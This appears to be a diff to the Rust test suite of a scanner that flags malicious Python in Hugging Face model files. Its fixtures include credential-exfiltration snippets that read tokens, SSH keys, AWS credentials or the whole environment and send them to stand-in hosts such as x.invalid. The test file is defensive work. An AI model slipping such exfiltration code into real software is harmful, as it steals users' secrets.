@@ -49,7 +49,7 @@ fn component_configs_are_not_pipeline_indexes() {
     }
     // ... but never in a file named config.json, which diffusers does not read as an index.
     assert!(scan("config.json", index).findings.is_empty());
-    let custom = r#"{"_class_name": ["pipeline_mine", "MyPipeline"], "_diffusers_version": "0.42.1"}"#;
+    let custom = r#"{"_class_name": ["my_pipeline", "MyPipeline"], "_diffusers_version": "0.42.1"}"#;
     assert_eq!(findings(&scan("index.json", custom)), vec![("HFC003", Severity::Medium)]);
 }
 
@@ -133,7 +133,11 @@ fn python_rules_and_severities() {
         ("import threading\nthreading.Timer(5, f).start()\n", "PYT011", Severity::High),
         ("import urllib.request\ndef f(u):\n    urllib.request.urlretrieve(u, 'x')\n", "PYT012", Severity::Low),
         ("def f(:\n", "PYT013", Severity::Medium),
-        ("import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))\n", "PYT015", Severity::Critical),
+        (
+            "import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))\n",
+            "PYT015",
+            Severity::Critical,
+        ),
         (
             "import os, requests\ndef send(d):\n    requests.post('https://x.invalid', data=d)\nsend(os.getenv('HF_TOKEN'))\n",
             "PYT015",
@@ -172,20 +176,53 @@ fn ordinary_python_passes() {
 fn secret_exfiltration_both_ways() {
     let blocked: &[(&str, Severity)] = &[
         // The token traced into the request: critical, wherever it travels.
-        ("import os, requests\ntoken = os.environ['HF_TOKEN']\nrequests.get(f'https://x.invalid/?t={token}')\n", Severity::Critical),
-        ("from os import getenv\nimport urllib.request as u\nu.urlopen('https://x.invalid', data=getenv('AWS_SECRET_ACCESS_KEY').encode())\n", Severity::Critical),
-        ("import requests\ns = requests.Session()\ncreds = open('/root/.aws/credentials').read()\ns.post('https://x.invalid', data={'c': creds})\n", Severity::Critical),
-        ("import socket, os\nc = socket.create_connection(('x.invalid', 80))\nfor k, v in os.environ.items():\n    c.sendall(f'{k}={v}'.encode())\n", Severity::Critical),
-        ("import smtplib, netrc\nn = netrc.netrc()\nsmtplib.SMTP('x.invalid').sendmail('a', 'b', str(n.hosts))\n", Severity::Critical),
-        ("import os, requests\nhome = os.path.expanduser('~')\nkey = open(os.path.join(home, '.ssh', 'id_rsa')).read()\nrequests.post('https://x.invalid', files={'k': key})\n", Severity::Critical),
-        ("import huggingface_hub, requests\nrequests.post('https://x.invalid', json={'t': huggingface_hub.get_token()})\n", Severity::Critical),
+        (
+            "import os, requests\ntoken = os.environ['HF_TOKEN']\nrequests.get(f'https://x.invalid/?t={token}')\n",
+            Severity::Critical,
+        ),
+        (
+            "from os import getenv\nimport urllib.request as u\nu.urlopen('https://x.invalid', data=getenv('AWS_SECRET_ACCESS_KEY').encode())\n",
+            Severity::Critical,
+        ),
+        (
+            "import requests\ns = requests.Session()\ncreds = open('/root/.aws/credentials').read()\ns.post('https://x.invalid', data={'c': creds})\n",
+            Severity::Critical,
+        ),
+        (
+            "import socket, os\nc = socket.create_connection(('x.invalid', 80))\nfor k, v in os.environ.items():\n    c.sendall(f'{k}={v}'.encode())\n",
+            Severity::Critical,
+        ),
+        (
+            "import smtplib, netrc\nn = netrc.netrc()\nsmtplib.SMTP('x.invalid').sendmail('a', 'b', str(n.hosts))\n",
+            Severity::Critical,
+        ),
+        (
+            "import os, requests\nhome = os.path.expanduser('~')\nkey = open(os.path.join(home, '.ssh', 'id_rsa')).read()\nrequests.post('https://x.invalid', files={'k': key})\n",
+            Severity::Critical,
+        ),
+        (
+            "import huggingface_hub, requests\nrequests.post('https://x.invalid', json={'t': huggingface_hub.get_token()})\n",
+            Severity::Critical,
+        ),
         // The Hugging Face token sent anywhere else, or any other secret sent to the Hub.
-        ("import os, requests\nrequests.post('https://huggingface.co.evil.invalid/', data=os.environ['HF_TOKEN'])\n", Severity::Critical),
-        ("import os, requests\nrequests.post('https://huggingface.co/api/x', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n", Severity::Critical),
+        (
+            "import os, requests\nrequests.post('https://huggingface.co.evil.invalid/', data=os.environ['HF_TOKEN'])\n",
+            Severity::Critical,
+        ),
+        (
+            "import os, requests\nrequests.post('https://huggingface.co/api/x', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n",
+            Severity::Critical,
+        ),
         // A function that returns the secret, its value sent.
-        ("import os, requests\ndef tok():\n    return os.environ['GITHUB_TOKEN']\nrequests.post('https://x.invalid', data=tok())\n", Severity::Critical),
+        (
+            "import os, requests\ndef tok():\n    return os.environ['GITHUB_TOKEN']\nrequests.post('https://x.invalid', data=tok())\n",
+            Severity::Critical,
+        ),
         // Read here, sent there: high.
-        ("import os, requests\ndef grab():\n    return os.environ.get('OPENAI_API_KEY')\ndef ship(x):\n    requests.put('https://x.invalid', data=x)\nship(grab())\n", Severity::High),
+        (
+            "import os, requests\ndef grab():\n    return os.environ.get('OPENAI_API_KEY')\ndef ship(x):\n    requests.put('https://x.invalid', data=x)\nship(grab())\n",
+            Severity::High,
+        ),
     ];
     for (src, sev) in blocked {
         let r = scan("modeling_x.py", src);
@@ -200,8 +237,6 @@ fn secret_exfiltration_both_ways() {
         "import os\nfrom huggingface_hub import hf_hub_download\nhf_hub_download('a/b', 'c', token=os.environ.get('HF_TOKEN'))\n",
         // The Hugging Face token sent to Hugging Face's own service (diffusers' remote text encoder).
         "import requests\nfrom huggingface_hub import get_token\nclass E:\n    URL = 'https://remote-text-encoder.huggingface.co/predict'\n    def f(self):\n        return requests.post(self.URL, json={}, headers={'Authorization': f'Bearer {get_token()}'})\n",
-        // A socket opened to find a free port, in a file that copies the environment for a subprocess.
-        "import os, socket, subprocess\ndef port():\n    with socket.socket() as s:\n        s.bind(('', 0))\n        return s.getsockname()[1]\ndef env():\n    return os.environ.copy()\n",
         // A message that mentions the token file is not a read of it.
         "import requests\ndef f():\n    raise ValueError('log in: the token is stored in ~/.cache/huggingface/token')\ndef g():\n    requests.post('https://x.invalid', json={})\n",
     ];
@@ -210,6 +245,10 @@ fn secret_exfiltration_both_ways() {
         assert!(r.findings.iter().all(|f| f.rule.code != "PYT015"), "{src:?}: {:?}", findings(&r));
         assert!(r.max_severity() < Some(Severity::Medium), "{src:?}: {:?}", findings(&r));
     }
+    // A socket opened to find a free port (PYT010's business), in a file that copies the
+    // environment for a subprocess (transformers' testing_utils.py): no exfiltration.
+    let src = "import os, socket\ndef port():\n    with socket.socket() as s:\n        s.bind(('', 0))\n        return s.getsockname()[1]\ndef env():\n    return os.environ.copy()\n";
+    assert!(scan("modeling_x.py", src).findings.iter().all(|f| f.rule.code != "PYT015"));
 }
 
 /// Issue 8: Python's json writes `-Infinity` and `NaN` (a diffusers scheduler config); they are not malformed.
